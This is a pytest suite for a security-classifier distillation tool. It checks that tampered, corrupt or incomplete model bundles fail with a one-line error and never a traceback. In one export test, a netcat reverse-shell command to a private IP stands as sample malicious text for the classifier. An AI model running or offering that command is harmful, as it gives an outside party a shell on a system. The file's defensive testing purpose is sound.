"""Tampered, truncated or incomplete bundles: one BundleError line naming the file and the key, never a traceback.

Every registered student is saved by the current code once per module; each test tampers with a copy.
The same bundles, untouched, must keep loading (bundles written before the manifest schema existed).
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from distilsec.bundle import MANIFEST, WEIGHTS, load_model, read_manifest, update_manifest
from distilsec.cli.app import app
from distilsec.errors import BundleError
from tests.conftest import make_texts
from tests.students.test_cve_model import INDEX, _data

KINDS = ("char_cnn", "hashed_linear", "html_inspector", "tfidf_linear", "cvss_linear", "cve_model")


def _train(kind: str, path: Path) -> Path:
    from distilsec.students import CharCNNStudent, HashedLinearStudent, HTMLInspectorStudent, TfidfLinearStudent
    from distilsec.students.cve_model import CveModel
    from distilsec.students.cvss_linear import CvssLinearModel

    texts, y, _ = make_texts(100, seed=4)
    if kind == "char_cnn":
        model = CharCNNStudent(max_len=32, embedding_dim=4, n_filters=4, hidden_dims=[8], epochs=1, device="cpu")
    elif kind == "hashed_linear":
        model = HashedLinearStudent(n_features=2**8, epochs=1)
    elif kind == "html_inspector":
        model = HTMLInspectorStudent(n_features=16, n_chunks=4, hidden_dim=4, epochs=1, device="cpu")
    elif kind == "tfidf_linear":
        model = TfidfLinearStudent(loss="softmax", min_df=1, epochs=1)
    else:
        texts, y, vectors = _data(8)
        cvss = CvssLinearModel(min_df=1).fit(texts, vectors)
        if kind == "cvss_linear":
            return cvss.save(path)
        cwe = TfidfLinearStudent(loss="svm", min_df=1).fit(texts, y)
        return CveModel(cwe, cvss, INDEX, top_k=2).save(path)
    bundle = model.fit(texts, y).save(path)
    # what `distilsec run` adds, as `run` writes it
    update_manifest(
        bundle,
        threshold=0.5,
        target_fpr=0.001,
        positive="malicious",
        negative="benign",
        preprocess="cmdline",
        max_text_chars=4096,
        role="student",
        task="cmdline",
        data_fingerprint="abc",
        metrics={"auc": 1.0, "threshold": 0.5},
    )
    return bundle


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("saved")
    return {kind: _train(kind, root / kind) for kind in KINDS}


@pytest.fixture
def copy(saved: dict[str, Path], tmp_path: Path) -> Callable[[str], Path]:
    def make(kind: str) -> Path:
        return Path(shutil.copytree(saved[kind], tmp_path / kind))

    return make


def _edit(bundle: Path, change: Callable[[dict], None]) -> Path:
    f = bundle / MANIFEST
    manifest = json.loads(f.read_text())
    change(manifest)
    f.write_text(json.dumps(manifest))
    return bundle


def _one_line_error(bundle: Path, match: str) -> str:
    with pytest.raises(BundleError, match=match) as info:
        load_model(bundle)
    message = str(info.value)
    assert "\n" not in message and str(bundle) in message
    return message


@pytest.mark.parametrize("kind", KINDS)
def test_bundles_saved_by_the_current_code_still_load(saved, kind):
    model = load_model(saved[kind])
    texts = make_texts(5, seed=8)[0]
    if kind == "cve_model":
        assert len(model.predict(texts)) == 5
    elif kind == "cvss_linear":
        assert len(model.predict_vectors(texts)) == 5
    else:
        assert np.allclose(model.predict_proba(texts).sum(axis=1), 1.0)


def test_bundle_without_params_added_later_loads_with_their_defaults(copy):
    """A bundle written before ``analyzer`` existed (its params lack it) keeps its old meaning."""
    bundle = _edit(copy("hashed_linear"), lambda m: m["params"].pop("analyzer"))
    assert load_model(bundle).analyzer == "char"


def test_manifest_keys_of_scoring_and_export_are_accepted(copy):
    bundle = copy("hashed_linear")
    update_manifest(bundle, text_column="cmd", id_column="event_id", onnx=None)
    assert load_model(bundle).classes_ == ["benign", "malicious"]


def test_changed_n_filters_is_a_shape_mismatch_naming_tensor_and_param(copy):
    bundle = _edit(copy("char_cnn"), lambda m: m["params"].update(n_filters=5))
    msg = _one_line_error(bundle, "model.safetensors")
    assert "n_filters" in msg and "shape" in msg


def test_changed_hashed_linear_n_features_is_a_shape_mismatch(copy):
    bundle = _edit(copy("hashed_linear"), lambda m: m["params"].update(n_features=2**9))
    _one_line_error(bundle, r"tensor 'coef' has shape \(256, 2\).*need \(512, 2\)")


def test_changed_html_inspector_hidden_dim_is_a_shape_mismatch(copy):
    bundle = _edit(copy("html_inspector"), lambda m: m["params"].update(hidden_dim=6))
    _one_line_error(bundle, "hidden_dim")


def test_extra_class_is_a_shape_mismatch(copy):
    bundle = _edit(copy("tfidf_linear"), lambda m: m["classes"].append("other"))
    _one_line_error(bundle, "tensor 'coef' has shape")


def test_threshold_that_is_not_a_number_is_refused(copy):
    bundle = _edit(copy("char_cnn"), lambda m: m.update(threshold="high"))
    _one_line_error(bundle, r"manifest.json: threshold: .*number.*\"high\"")


@pytest.mark.parametrize("value", [-0.1, 1.5])
def test_threshold_outside_0_1_is_refused(copy, value):
    _one_line_error(_edit(copy("hashed_linear"), lambda m: m.update(threshold=value)), "threshold")


def test_negative_max_text_chars_is_refused_not_silently_cutting_text(copy):
    bundle = _edit(copy("hashed_linear"), lambda m: m.update(max_text_chars=-5))
    _one_line_error(bundle, "max_text_chars: Input should be greater than 0")


@pytest.mark.parametrize("kind", ["char_cnn", "hashed_linear", "html_inspector", "tfidf_linear", "cvss_linear"])
def test_extra_unknown_param_is_refused_naming_it(copy, kind):
    bundle = _edit(copy(kind), lambda m: m["params"].update(evil=1))
    _one_line_error(bundle, r"params \['evil'\] are not parameters of")


def test_param_of_the_wrong_type_is_refused(copy):
    bundle = _edit(copy("char_cnn"), lambda m: m["params"].update(dropout="a lot"))
    _one_line_error(bundle, "params.dropout")


@pytest.mark.parametrize(
    ("param", "value"), [("max_len", -5), ("max_len", True), ("ngram_range", [3, 1]), ("pooling", "mean")]
)
def test_param_out_of_range_is_refused(copy, param, value):
    kind = "hashed_linear" if param == "ngram_range" else "char_cnn"
    _one_line_error(_edit(copy(kind), lambda m: m["params"].update({param: value})), f"params.{param}")


def test_unknown_top_level_key_is_refused(copy):
    bundle = _edit(copy("hashed_linear"), lambda m: m.update(treshold=0.9))
    _one_line_error(bundle, "unknown key 'treshold'.*remove the key")


def test_manifest_that_is_not_json_is_refused(copy):
    bundle = copy("char_cnn")
    (bundle / MANIFEST).write_text('{"type": "char_cnn.v1", ')
    _one_line_error(bundle, "not valid JSON")


def test_manifest_that_is_a_list_is_refused(copy):
    bundle = copy("char_cnn")
    (bundle / MANIFEST).write_text("[1, 2]")
    _one_line_error(bundle, "no 'type' entry")


def test_missing_classes_is_refused(copy):
    bundle = _edit(copy("char_cnn"), lambda m: m.pop("classes"))
    _one_line_error(bundle, "classes")


@pytest.mark.parametrize("kind", ["char_cnn", "hashed_linear", "html_inspector", "tfidf_linear", "cvss_linear"])
@pytest.mark.parametrize("damage", ["truncated", "garbage", "empty"])
def test_corrupt_safetensors_is_refused_naming_the_file(copy, kind, damage):
    bundle = copy(kind)
    f = bundle / WEIGHTS
    data = f.read_bytes()
    f.write_bytes({"truncated": data[: len(data) // 2], "garbage": b"\x00garbage" * 50, "empty": b""}[damage])
    _one_line_error(bundle, "model.safetensors is not a readable safetensors file")


@pytest.mark.parametrize("kind", ["char_cnn", "hashed_linear", "tfidf_linear"])
def test_missing_weights_file_is_refused(copy, kind):
    bundle = copy(kind)
    (bundle / WEIGHTS).unlink()
    _one_line_error(bundle, "model.safetensors is missing")


def test_weights_with_a_tensor_renamed_are_refused(copy):
    from safetensors.numpy import load_file, save_file

    bundle = copy("hashed_linear")
    tensors = load_file(str(bundle / WEIGHTS))
    tensors["weights"] = tensors.pop("coef")
    save_file(tensors, str(bundle / WEIGHTS))
    _one_line_error(bundle, r"lacks tensors \['coef'\]")


@pytest.mark.parametrize("content", [None, "not json", '["a", "a"]'])
def test_broken_vocabulary_is_refused(copy, content):
    bundle = copy("tfidf_linear")
    if content is None:
        (bundle / "vocabulary.json").unlink()
    else:
        (bundle / "vocabulary.json").write_text(content)
    _one_line_error(bundle, "vocabulary.json")


def test_cve_model_with_a_damaged_part_names_the_part(copy):
    bundle = copy("cve_model")
    (bundle / "cvss" / WEIGHTS).write_bytes(b"broken")
    with pytest.raises(BundleError, match="cvss/model.safetensors"):
        load_model(bundle)


def test_cvss_values_not_matching_the_heads_are_refused(copy):
    bundle = _edit(copy("cvss_linear"), lambda m: m["values"]["AV"].append("Q"))
    _one_line_error(bundle, "tensor 'coef.AV' has shape")


def test_unknown_model_type_names_the_manifest(copy):
    bundle = _edit(copy("hashed_linear"), lambda m: m.update(type="evil.v1"))
    _one_line_error(bundle, "manifest.json: unknown model type 'evil.v1'")


def test_read_manifest_checks_the_schema_without_loading_the_model(copy):
    bundle = _edit(copy("char_cnn"), lambda m: m["params"].update(max_len=0))
    with pytest.raises(BundleError, match="params.max_len"):
        read_manifest(bundle)


# ---- the same from the command line: exit code 2 and one line ----


TAMPERINGS: dict[str, Callable[[Path], object]] = {
    "n_filters": lambda b: _edit(b, lambda m: m["params"].update(n_filters=5)),
    "threshold": lambda b: _edit(b, lambda m: m.update(threshold="high")),
    "extra_param": lambda b: _edit(b, lambda m: m["params"].update(evil=1)),
    "max_text_chars": lambda b: _edit(b, lambda m: m.update(max_text_chars=-5)),
    "corrupt_weights": lambda b: (b / WEIGHTS).write_bytes((b / WEIGHTS).read_bytes()[:100]),
    "missing_weights": lambda b: (b / WEIGHTS).unlink(),
    "manifest_not_json": lambda b: (b / MANIFEST).write_text("{oops"),
}


def _assert_one_line_exit_2(res, bundle: Path) -> None:
    assert res.exit_code == 2, res.output
    lines = [ln for ln in res.output.splitlines() if ln.strip()]
    assert lines and lines[-1].startswith("error:"), res.output
    assert "Traceback" not in res.output
    assert bundle.name in res.output


@pytest.mark.parametrize("tampering", sorted(TAMPERINGS))
def test_cli_score_on_a_tampered_bundle_exits_2_with_one_line(copy, tmp_path, tampering):
    bundle = copy("char_cnn")
    TAMPERINGS[tampering](bundle)
    src = tmp_path / "in.txt"
    src.write_text("ls -la\n")
    res = CliRunner().invoke(app, ["score", "--model", str(bundle), str(src), "-o", str(tmp_path / "o.jsonl")])
    _assert_one_line_exit_2(res, bundle)


@pytest.mark.parametrize("tampering", ["n_filters", "extra_param", "corrupt_weights", "threshold"])
def test_cli_export_on_a_tampered_bundle_exits_2_with_one_line(copy, tmp_path, tampering):
    pytest.importorskip("onnxruntime")
    bundle = copy("char_cnn")
    TAMPERINGS[tampering](bundle)
    src = tmp_path / "val.txt"
    src.write_text("ls -la\nnc -e /bin/sh 10.0.0.1 4444\n")
    res = CliRunner().invoke(app, ["export", str(bundle), "--texts", str(src)])
    _assert_one_line_exit_2(res, bundle)


@pytest.mark.parametrize("tampering", ["n_filters", "max_text_chars", "missing_weights"])
def test_cli_serve_on_a_tampered_bundle_exits_2_before_binding(copy, tampering, monkeypatch):
    import uvicorn

    monkeypatch.setattr(uvicorn, "run", lambda *a, **k: pytest.fail("serve must not start with a bad bundle"))
    bundle = copy("hashed_linear" if tampering == "max_text_chars" else "char_cnn")
    TAMPERINGS[tampering](bundle)
    res = CliRunner().invoke(app, ["serve", str(bundle), "--port", "8123"])
    _assert_one_line_exit_2(res, bundle)
